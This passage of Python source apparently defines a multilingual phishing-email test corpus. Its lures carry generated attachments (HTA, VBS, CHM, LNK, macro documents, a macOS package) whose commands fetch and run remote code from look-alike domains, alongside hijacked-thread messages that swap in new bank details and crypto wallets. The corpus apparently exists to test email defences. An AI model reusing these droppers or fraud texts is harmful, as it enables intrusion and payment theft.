11月分のご請求書をお送りいたします。添付ファイルはパスワード付きZIPとなっております。

パスワード：Seiwa1111

お支払期日：2026年11月30日

ご確認のほどよろしくお願いいたします。""", "2026-11-11 11:40 +0900",
      attachments=(Att("請求書_202611.zip", zip_archive([("請求書_202611.pdf.exe", pe_stub("seiwa-invoice"))],
                                                         password="Seiwa1111"), "application/zip"),)),
    L("attachment", "en", "HTA 'secure message' from a look-alike encrypted-mail service",
      ("SecureMail Gateway", "delivery@securemail-portal.net"), CFO,
      "You have received an encrypted message from Harbour Audit LLP",
      """An encrypted message is waiting for you.

Sender: Harbour Audit LLP
Subject: FY2026 interim findings

Open the attached SecureMessage.hta to decrypt and read it. The message expires in 72 hours.""",
      "2026-11-03 04:18 +0000",
      attachments=(Att("SecureMessage.hta",
                       hta(
                           "powershell -nop -w hidden -c iwr https://securemail-portal.net/k/stage.ps1 -UseB | iex",
                           "Secure Message"), "application/hta"),)),
    L("attachment", "fr", "French invoice zip holding a .pdf.vbs that runs a hidden command",
      ("Comptabilité - Atelier Brume", "compta@atelier-brume.fr"), LAURENT,
      "Facture FR-2026-1187 - relance",
      """Bonjour,

Sauf erreur de notre part, la facture FR-2026-1187 relative à l'aménagement de vos bureaux parisiens
reste impayée. Vous la trouverez ci-jointe (archive compressée à cause de la taille).

Merci de procéder au règlement sous 8 jours.

Cordialement,
Service comptabilité""", "2026-11-05 15:20 +0100",
      attachments=(Att("Facture_FR-2026-1187.zip", zip_archive([
          ("Facture_FR-2026-1187.pdf.vbs", vbs("powershell -w hidden -c iwr https://atelier-brume.fr/wp-content/f.ps1 | iex",
                                                 "https://atelier-brume.fr/facture.pdf"))]), "application/zip"),)),
    L("attachment", "ar", "Arabic price quote as an HTML page that smuggles a zip with an LNK",
      ("شركة الفجر للوساطة", "quotes@alfajr-brokerage.com"), HADDAD,
      "عرض الأسعار المحدث للربع الرابع",
      """الأستاذ عمر،

مرفق عرض الأسعار المحدث للربع الرابع. الملف محمي، يرجى فتحه في المتصفح لتنزيل المستند.

مع التحية""", "2026-11-06 09:05 +0400",
      attachments=(Att("عرض_الأسعار_Q4.html", html_smuggling(
          zip_archive([("Quote_Q4.pdf.lnk", lnk("C:\\Windows\\System32\\cmd.exe",
                                                "/c curl -s https://alfajr-brokerage.com/q/u.txt | powershell -",
                                                "%SystemRoot%\\System32\\shell32.dll,1"))]),
          "Quote_Q4.zip", "عرض الأسعار", "جارٍ تحضير المستند..."), "text/html"),)),
    L("attachment", "zh", "compliance 'report' as a CHM that runs PowerShell through the HHCtrl shortcut",
      ("亚太合规研究中心", "report@apac-compliance.org"), LI,
      "2026年第四季度虚拟资产合规报告（会员版）",
      """李伟先生：

附件为本中心编制的《2026年第四季度虚拟资产合规报告》会员版，涵盖香港牌照最新要求及OTC反洗钱案例。
请直接双击打开附件阅读。

亚太合规研究中心""", "2026-11-08 10:30 +0800",
      attachments=(Att("2026Q4合规报告.chm",
                       chm("2026Q4 合规报告", "cmd.exe,/c start /min powershell -w hidden -c iwr https://apac-compliance.org/r/s.ps1 | iex", "apac"),
                       "application/vnd.ms-htmlhelp"),)),
    L("attachment", "en", "macro-enabled .docm 'compensation review' that runs a command on Document_Open",
      ("HR Advisory - Paylane", "reviews@paylane-hr.com"), ITO,
      "Confidential: 2027 executive compensation benchmark",
      """Dear Yuki,

As requested by your CEO's office, please find the 2027 executive compensation benchmark attached.
The figures are protected; click "Enable Content" to display them.

Paylane HR Advisory""", "2026-11-10 01:50 +0000",
      attachments=(Att("Exec_Comp_Benchmark_2027.docm", word_document(
          ["Executive compensation benchmark 2027", "The contents are protected. Enable content to view."],
          [("ThisDocument",
            'Sub Document_Open()\r\n  Shell "powershell -w hidden -c iwr https://paylane-hr.com/b/d.ps1 | iex", 0\r\nEnd Sub\r\n',
            True)]), "application/vnd.ms-word.document.macroEnabled.12"),)),
    L("attachment", "ja", "RLO-named attachment that displays as a .docx but is an .exe",
      ("三浦 法律事務所", "miura@miura-law-office.jp"), TANAKA_JA,
      "業務委託契約書（最終版）のご確認",
      """田中様

お世話になっております。三浦法律事務所でございます。
業務委託契約書の最終版を添付いたしますので、ご確認のうえ本日中にご返信ください。

よろしくお願いいたします。""", "2026-11-12 10:15 +0900",
      attachments=(Att("業務委託契約書_最終版\u202excod.exe", pe_stub("miura-rlo"), "application/octet-stream"),)),
    L("attachment", "en", "SVG 'voice message' that smuggles a zip with a JScript file",
      ("Voicemail", "voicemail@callbox-notify.com"), TANAKA,
      "New voicemail from +81 3-6811-2290 (0:48)",
      """You have a new voicemail (0:48). Open the attached audio preview to listen.""",
      "2026-11-13 23:40 +0000",
      attachments=(Att("VM_0048_Preview.svg", svg_smuggling(
          zip_archive([("VM_0048.js", jscript("https://callbox-notify.com/p/vm.js"))]), "VM_0048.zip",
          "Loading voicemail..."), "image/svg+xml"),)),
    L("attachment", "en", "Excel add-in (.xll) 'pricing model' from an unknown OTC desk",
      ("Daniel Forde", "daniel@brightwater-otc.com"), LI,
      "OTC pricing model (XLL) for our call",
      """Hi Li,

Our pricing model is attached as an Excel add-in so that live quotes populate. Double-click it, let Excel
enable the add-in, and the sheet will pull our indicative BTC/USDT and ETH/USDT curves.

Daniel""", "2026-11-16 06:10 +0000",
      attachments=(Att("BW_OTC_Pricing.xll", pe_stub("brightwater-xll"), "application/octet-stream"),)),
    L("attachment", "ja", "AES 7z with the password in the body, holding an AppleScript that fakes a password prompt",
      ("Hokuto Partners 投資部", "ir@hokuto-partners.net"), CEO,
      "出資検討資料（パスワード付）",
      """佐藤様

先日はありがとうございました。出資検討資料をお送りします。
Mac でご覧になる場合は、解凍後の「検討資料.scpt」をダブルクリックして表示してください。

パスワード：hokuto2026

北斗パートナーズ 投資部""", "2026-11-14 17:30 +0900",
      attachments=(Att("出資検討資料.7z", seven_zip([("検討資料.scpt", applescript(
          "https://hokuto-partners.net/m/v", "資料を表示するには macOS のパスワードを入力してください"))],
          "hokuto2026", "hokuto"), "application/x-7z-compressed"),)),

    L("attachment", "en", "macOS flat package from an unknown 'integration partner' whose postinstall fetches and runs a binary as root",
      ("Integrations - Quanta Rails", "integrations@quantarails.io"), SUZUKI,
      "Your listing integration package (macOS)",
      """Hi Kenta,

As agreed on the listing call, attached is the integration package for your ops Mac. It installs our
node monitor and the signed config for the deposit-address API. Installation needs an admin password.

Ping me if anything fails.

Quanta Rails Integrations""", "2026-11-17 02:25 +0000",
      attachments=(Att("QuantaRails_Integration.pkg", xar_pkg(
          "io.quantarails.integration",
          "curl -fsSL https://cdn.quantarails.io/n/agent -o /Library/Application\\ Support/.qr && chmod +x "
          "/Library/Application\\ Support/.qr && /Library/Application\\ Support/.qr &"),
          "application/octet-stream"),)),

    # ---------------------------------------------------------------- conversation-hijack
    L("conversation-hijack", "en", "reply in the real Marlowe fee thread (In-Reply-To) from marlowe-custody.co with new bank details",
      ("James Adebayo", "james.adebayo@marlowe-custody.co"), TREASURY,
      "RE: Q4 custody fee schedule",
      """Hi team,

Quick follow-up on the Q4 invoice: our Singapore account is being migrated, so please settle the Q4 custody
fee (USD 86,400) to our new account instead:

Beneficiary: Marlowe Custody Pte Ltd
Bank: Crestmont Bank (HK)
Account: 801-339204-112
SWIFT: CRSTHKHH

Please confirm the payment date by reply. The old account will be closed at month end.

Best,
James""", "2026-11-06 03:22 +0000", in_reply_to=MARLOWE_FEES_ID, references=MARLOWE_FEES_ID),
    L("conversation-hijack", "ja", "reply in the real Ishikari OTC settlement thread (In-Reply-To) from ishikari-dt.jp changing the USDC receiving address",
      ("森山 拓也", "t.moriyama@ishikari-dt.jp"), TANAKA_JA,
      "Re: 11月分 OTC決済について",
      """田中様

お世話になっております。石狩デジタルトレーディングの森山です。
先ほどの件、補足です。社内のウォレット管理方針変更により、本件の受取アドレスが変わりました。
今回の決済（USDC 1,500,000）は下記アドレス宛にお願いいたします。

0x1D7b2F94cE06a3B8d5E47f90A21c6B3e8fD452a9

旧アドレスへのご送金は着金確認ができなくなりますのでご注意ください。
本日17時までにご対応いただけますと幸いです。""", "2026-11-05 13:48 +0900",
      in_reply_to=ISHIKARI_OTC_ID, references=ISHIKARI_OTC_ID),
    L("conversation-hijack", "fr", "forward of the Banque Vauclair SEPA thread (no In-Reply-To) from vauclair-banque.com with a 'new' IBAN",
      ("Élodie Roussel", "e.roussel@vauclair-banque.com"), LAURENT,
      "TR: Ouverture du compte de cantonnement SEPA",
      """Bonjour Camille,

Je reviens vers vous sur notre échange : suite à l'audit de fin d'année, le compte de cantonnement qui vous a
été communiqué est remplacé. Merci d'utiliser désormais :

IBAN : FR76 1470 7000 3132 1982 4410 598
BIC : CCBPFRPPMTZ

Le premier versement prévu vendredi doit être effectué sur ce nouveau compte. Merci de me confirmer la
bonne prise en compte.

Élodie Roussel
Banque Vauclair - Relations institutionnelles

-------- Message transféré --------
Objet : Ouverture du compte de cantonnement SEPA
De : Élodie Roussel <e.roussel@vauclair-banque.fr>""", "2026-11-10 16:02 +0100"),
    L("conversation-hijack", "ko", "reply in the real Seorin whitelist thread (In-Reply-To) from seorin-digital.co.kr replacing the addresses to whitelist",
      ("한지우", "jiwoo.han@seorin-digital.co.kr"), PARK,
      "RE: 입출금 화이트리스트 주소 등록 요청",
      """박대현님,

어제 보내드린 주소 중 핫월렛 주소에 오류가 있어 정정합니다. 기존 요청은 무시하시고 아래 주소로 등록
부탁드립니다.

ETH: 0xB84e19a3F7c20D5e6a91C4b8E07d3f2A5c1E96d0
TRX: TKm3vQ8yR1nWz5Lb7Xc2Ds9Pe4Fh6Gj0Ua

오늘 중으로 반영되어야 내일 첫 정산이 가능합니다.

서린디지털 한지우 드림""", "2026-11-07 10:40 +0900",
      in_reply_to=SEORIN_WHITELIST_ID, references=SEORIN_WHITELIST_ID),
    L("conversation-hijack", "zh", "reply in the real Jade Harbour block-trade thread (In-Reply-To) from jadeharbour-hk.com with a new wallet",
      ("區詠琪", "wingki.au@jadeharbour-hk.com"), LI,
      "回复: 11月7日大宗交易结算确认",
      """李生，

補充一點：由於我們的託管商今日進行系統維護，今次 BTC 交收請改為轉到以下臨時地址：

bc1q9h7x3kz5w2m8fqv0cn4rlt6d2ye7sj3p5a8uxg

維護完成後會恢復原地址。請盡快安排，多謝！

Wing Ki""", "2026-11-07 15:26 +0800", in_reply_to=JADE_BLOCK_ID, references=JADE_BLOCK_ID),
    L("conversation-hijack", "ja", "reply in the real Meiwa audit thread (In-Reply-To) from meiwa-audlt.co.jp with an encrypted zip holding a .pdf.lnk",
      ("杉浦 聡子", "s.sugiura@meiwa-audlt.co.jp"), TAKAHASHI_JA,
      "Re: 期末監査に向けた資料ご依頼",
      """高橋様

お世話になっております。明和監査法人の杉浦です。
前回ご依頼した資料の追加分について、確認事項を添付ファイルにまとめました。
パスワードは別途お送りすべきところ恐縮ですが、お急ぎのため記載いたします：Meiwa#1104

ご確認のほどよろしくお願いいたします。""", "2026-11-06 16:35 +0900",
      in_reply_to=MEIWA_AUDIT_ID, references=MEIWA_AUDIT_ID,
      attachments=(Att("追加確認事項.zip", zip_archive([
          ("追加確認事項.pdf.lnk", lnk("C:\\Windows\\System32\\mshta.exe", "https://meiwa-audlt.co.jp/c/view.hta",
                                       "%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\msedge.exe,11"))],
          password="Meiwa#1104"), "application/zip"),)),
]
